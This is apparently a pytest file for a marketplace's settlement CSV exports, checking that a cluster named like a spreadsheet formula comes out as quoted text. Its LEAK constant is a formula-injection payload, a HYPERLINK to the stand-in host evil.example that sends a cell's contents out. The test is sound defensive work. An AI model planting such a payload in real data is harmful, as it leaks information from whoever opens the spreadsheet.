"""A cluster named like a spreadsheet formula: the month's CSVs carry its name as text, amounts as numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

from marketplace.payments.services import record_manual_payment
from marketplace.pools.models import PooledCost
from marketplace.pools.services import set_participant
from tests.conftest import csrf_token, login
from tests.factories import PASSWORD

IBAN = "FR7630006000011234567890189"
LEAK = '=HYPERLINK("http://evil.example/?leak="&C2,"x")'


def _csv(client, path: str) -> list[list[str]]:
    response = client.get(path)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))


def test_a_formula_in_a_cluster_name_is_text_in_the_treasurer_csvs(app, client, db, factories):
    with app.test_request_context():
        seller = factories.make_cluster(slug="alpha", name="Alpha", iban=IBAN, bic="AGRIFRPP")
        evil = factories.make_cluster(slug="evil", name=LEAK, iban=IBAN, bic="AGRIFRPP")
        admin = factories.make_user("tresor@federation.fr", is_platform_admin=True)
        order = factories.make_order(factories.make_offer(seller, list_price_cents=50_000))
        record_manual_payment(db, order, order.total_incl_cents, date(2026, 10, 14), admin.id)
        pool = PooledCost(name="Veille", kind="strategic_purchase", supplier_name="Veille SA", sharing_key="equal",
                          monthly_cost_cents=20_000, starts_on=date(2026, 10, 1))
        db.add(pool)
        db.flush()
        for cluster in (seller, evil):
            set_participant(db, pool, cluster.id, date(2026, 1, 1), None, None)
        db.commit()
    login(client, admin.email, PASSWORD)
    closed = client.post("/console/settlements/close",
                         data={"period": "2026-10", "csrf_token": csrf_token(client, "/console/")})
    assert closed.status_code == 303

    summary = _csv(client, "/console/settlements/2026-10.csv")
    by_name = {row[1]: row for row in summary[1:]}
    assert set(by_name) == {"Alpha", "'" + LEAK}
    assert by_name["'" + LEAK][5] == "-100,00"  # its share of the pooled cost: still a negative number
    assert not any(cell.startswith("=") for row in summary for cell in row)

    statement = _csv(client, "/console/clusters/evil/settlements/2026-10.csv")
    assert {row[0] for row in statement[1:]} == {"'" + LEAK}
    assert statement[-1][2:] == ["Solde de clôture", "", "467", "-100,00"]
